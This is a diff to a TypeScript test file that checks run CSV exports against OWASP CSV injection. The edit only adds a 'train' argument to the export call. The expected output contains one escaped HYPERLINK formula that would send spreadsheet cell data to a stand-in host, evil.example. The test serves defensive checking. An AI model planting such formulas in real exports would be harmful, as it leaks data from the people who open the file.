@@ -21,7 +21,7 @@ const record: RunRecord = {
 
 describe('run CSV exports neutralise formula-like text (OWASP CSV injection)', () => {
   it('series CSV: hostile label and id are quoted text, negative numbers stay numbers', () => {
-    expect(runsToCsv([record])).toBe(
+    expect(runsToCsv([record], 'train')).toBe(
       [
         'run_id,label,lab,seed,step,loss,w0',
         `"'@r1","'=HYPERLINK(""http://evil.example/?d=""&A2,""open"")",learn-to-bid,1,0,-1e-7,-0.5`,
